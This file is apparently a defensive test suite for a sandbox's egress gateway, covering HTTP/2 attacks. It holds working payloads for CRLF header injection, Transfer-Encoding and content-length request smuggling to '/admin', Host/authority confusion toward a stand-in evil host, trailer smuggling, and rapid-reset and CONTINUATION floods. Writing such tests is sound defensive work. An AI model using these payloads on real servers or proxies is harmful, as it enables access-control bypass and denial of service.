/** Threat: HTTP/2 carries what HTTP/1.1 cannot, for each of many streams; what is judged for one is forwarded for another. */
import { groupOf, node } from "../attack.ts";
import type { Case } from "../model.ts";
import { all, neverPrints, noCredential, nothingAnywhere, prints, serverGot, serverNeverGot } from "../witness.ts";

const attack = groupOf("http", ["egress", "rules"]);

/** `HEADERS` with the end of head and stream; a head as {name: value} over the usual four. */
const HEAD = `
const lines = (more = {}) => Object.entries({ ":method": "GET", ":scheme": "https", ":authority": host("api"), ":path": "/v1/x", ...more });
const headers = (stream, more, flags = 5) => h2Frame(1, flags, stream, h2Block(lines(more)));
`;
const frames = (text: string) => node(`${HEAD}\n${text}`);
const AFTER = `say("after " + (await recovers("https://" + host("api") + "/v1/after"))); process.exit(0)`;
/** Under way on a connection of its own while the attack goes on. */
const NEIGHBOUR = `
const statusOf = (s) => new Promise((done) => { s.on("response", (h) => done(h[":status"])); s.on("error", (e) => done(e.code)); s.on("close", () => done("closed")); s.resume(); });
const neighbours = http2.connect("https://" + host("api")); neighbours.on("error", (e) => say(e.code));
const neighbour = neighbours.request({ ":path": "/v1/neighbour/unread" });
const answered = statusOf(neighbour);
`;
/** The one request that proves that the connection was read at all, or the answer to it. */
const onlyAfter = all(serverNeverGot("api", /stolen|admin|private|DELETE/), prints(/after 200/));

const unreadable: Case[] = [
  [
    "h2-crlf-value",
    "ends a line within a value, so that HTTP/1.1 behind reads a second header",
    '{ "x-a": "b\\r\\nx-stolen: d" }',
  ],
  [
    "h2-crlf-path",
    "ends the request line within the path",
    '{ ":path": "/v1/x HTTP/1.1\\r\\nx: y\\r\\n\\r\\nGET /admin" }',
  ],
  ["h2-crlf-method", "ends the request line within the method", '{ ":method": "GET /admin HTTP/1.1\\r\\nx: y" }'],
  ["h2-crlf-name", "ends a line within a name", '{ "x-a\\r\\nx-stolen": "d" }'],
  ["h2-nul", "puts a NUL into a value", '{ "x-a": "stolen\\0c" }'],
  [
    "h2-te",
    "brings Transfer-Encoding, which HTTP/2 does not have",
    '{ ":method": "POST", ":path": "/v1/items", "transfer-encoding": "chunked", "x-a": "stolen" }',
  ],
  ["h2-host-other", "says another Host than its authority", '{ host: "evil.creel.example", "x-a": "stolen" }'],
  [
    "h2-authority-user",
    "hides a host behind a user name in the authority",
    '{ ":authority": "api.creel.example@evil.creel.example", "x-a": "stolen" }',
  ],
  ["h2-absolute", "asks in absolute form for another host", '{ ":path": "https://evil.creel.example/stolen" }'],
  ["h2-scheme", "says a scheme that is not the connection's", '{ ":scheme": "http", "x-a": "stolen" }'],
  ["h2-upper-case", "writes a name in upper case, as HTTP/1.1 might read twice", '{ "X-A": "stolen" }'],
  ["h2-connect", "opens a tunnel within a stream", '{ ":method": "CONNECT", "x-a": "stolen" }'],
].map(([id = "", title = "", more = ""]) =>
  attack(id, title, {
    promise: "judged-is-forwarded",
    program: frames(`await h2Raw(host("api"), [headers(1, ${more})], { ms: 600 }); ${AFTER}`),
    expect: onlyAfter,
  }),
);

export const http2: Case[] = [
  ...unreadable,
  attack(
    "h2-authority-each",
    "opens a stream for an allowed host, then others of the same connection for other hosts",
    {
      promise: "rules",
      program: frames(
        `await h2Raw(host("api"), [headers(1, { ":path": "/v1/first" }), headers(3, { ":authority": host("evil"), ":path": "/v1/stolen" }), headers(5, { ":authority": host("other"), ":path": "/v1/stolen" }), headers(7, { ":path": "/admin" }), headers(9, { ":method": "DELETE" })], { ms: 900 }); ${AFTER}`,
      ),
      expect: all(
        serverGot("api", /^GET \/v1\/first/),
        onlyAfter,
        serverNeverGot("evil", /./),
        serverNeverGot("other", /./),
      ),
    },
  ),
  attack("h2-length-lie", "says a content-length that its body does not keep, so that the rest becomes a request", {
    promise: "judged-is-forwarded",
    program: frames(
      `await h2Raw(host("api"), [headers(1, { ":method": "POST", ":path": "/v1/items", "content-length": "2" }, 4), h2Frame(0, 1, 1, Buffer.from("okGET /admin HTTP/1.1\\r\\nHost: api.creel.example\\r\\n\\r\\n"))], { ms: 700 }); ${AFTER}`,
    ),
    expect: onlyAfter,
  }),
  attack("h2-trailer-fields", "names method, path and framing again in trailers", {
    promise: "judged-is-forwarded",
    program: frames(
      `await h2Raw(host("api"), [headers(1, { ":method": "POST", ":path": "/v1/items" }, 4), h2Frame(0, 0, 1, Buffer.from("body")), h2Frame(1, 5, 1, h2Block([[":path", "/admin"], ["transfer-encoding", "chunked"], ["x-a", "stolen"]]))], { ms: 700 }); ${AFTER}`,
    ),
    expect: onlyAfter,
  }),
  attack("h2-trailer-credential", "has the credential put into trailers, as gRPC has them, where nobody looks for it", {
    promise: "credential-bound",
    needs: ["credentials"],
    program: frames(
      `say(await h2Raw(host("api"), [headers(1, { ":method": "POST", ":path": "/v1/items", "content-type": "application/grpc", te: "trailers" }, 4), h2Frame(0, 0, 1, Buffer.from("body")), h2Frame(1, 5, 1, h2Block([["x-token", process.env.TOKEN]]))], { ms: 700 })); ${AFTER}`,
    ),
    expect: all(prints(/after 200/), noCredential, {
      says: "the real value arrived nowhere",
      async check(seen) {
        await seen.settled();
        return JSON.stringify(seen.hits).includes(seen.stage.secrets[0] ?? "?") ? "a server got the real value" : null;
      },
    }),
  }),
  // A connection that nobody reads from any more is found out within 20 s.
  attack("h2-rapid-reset", "opens and gives up streams as fast as it can", {
    promise: "limits",
    program: frames(
      `const many = []; for (let i = 0; i < 5000; i++) many.push(headers(2 * i + 1, { ":path": "/v1/reset" }), h2Frame(3, 0, 2 * i + 1, Buffer.from([0, 0, 0, 8]))); say("ended " + (await h2Raw(host("api"), [Buffer.concat(many)], { ms: 25000 })).slice(0, 6)); ${AFTER}`,
    ),
    expect: all(prints(/ended (closed|failed)/), prints(/after 200/), {
      says: "the server behind was not asked a thousand times",
      check: ({ hits }) => (hits.length < 1_000 ? null : `${hits.length} requests arrived`),
    }),
  }),
  // Both once ended the gateway of every sandbox; a stream of another connection that is under way tells whether it lives.
  attack(
    "h2-reset-no-error",
    "takes a request back as if nothing were wrong, its body unread, and waits for the answer",
    {
      promise: "limits",
      program: frames(
        `${NEIGHBOUR}
for (const ms of [200, 800, 2400]) {
  const c = http2.connect("https://" + host("other")); c.on("error", (e) => say(e.code));
  const s = c.request({ ":method": "POST", ":path": "/v1/unread" }); s.on("error", () => {}); s.write(Buffer.alloc(64000));
  await sleep(ms); s.close(0); await sleep(1500); c.destroy();
}
say("neighbour " + (await answered)); ${AFTER}`,
      ),
      expect: all(serverGot("other", /^POST \/v1\/unread/), prints(/neighbour 200/), prints(/after 200/)),
    },
  ),
  attack("h2-status-999", "asks a server that answers with a status that HTTP/2 does not have", {
    promise: "limits",
    program: frames(
      `${NEIGHBOUR} const c = http2.connect("https://" + host("api")); c.on("error", (e) => say(e.code)); say("odd " + (await statusOf(c.request({ ":path": "/v1/status-999" })))); say("neighbour " + (await answered)); ${AFTER}`,
    ),
    expect: all(
      serverGot("api", /^GET \/v1\/status-999/),
      prints(/odd 502/),
      prints(/neighbour 200/),
      prints(/after 200/),
    ),
  }),
  attack("h2-continuation", "never ends a head", {
    promise: "limits",
    program: frames(
      `const part = h2Block([["x-a", "a".repeat(8000)]]); say("ended " + (await h2Raw(host("api"), [headers(1, {}, 1), ...Array.from({ length: 200 }, () => h2Frame(9, 0, 1, part))], { ms: 15000 })).slice(0, 6)); ${AFTER}`,
    ),
    expect: all(prints(/ended (closed|failed)/), onlyAfter),
  }),
  attack("h2-honest", "control: an allowed request over HTTP/2 gets there and back", {
    promise: "honest-work",
    control: true,
    program: node(
      `const c = http2.connect("https://" + host("api")); c.on("error", (e) => say(e.code)); const s = c.request({ ":path": "/v1/over-two" }); s.on("response", (h) => say("status " + h[":status"])); s.resume(); s.on("close", () => process.exit(0)); s.end()`,
    ),
    expect: all(prints(/status 200/), serverGot("api", /^GET \/v1\/over-two/)),
  }),
  attack("h2-plain", "speaks HTTP/2 without TLS to a plain endpoint", {
    promise: "judged-is-forwarded",
    program: frames(
      `say(await rawTcp(host("plain"), 80, Buffer.concat([Buffer.from("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"), h2Frame(4, 0, 0), headers(1, { ":scheme": "http", ":authority": host("plain") })]), 600))`,
    ),
    expect: all(nothingAnywhere, neverPrints(/200/)),
  }),
];
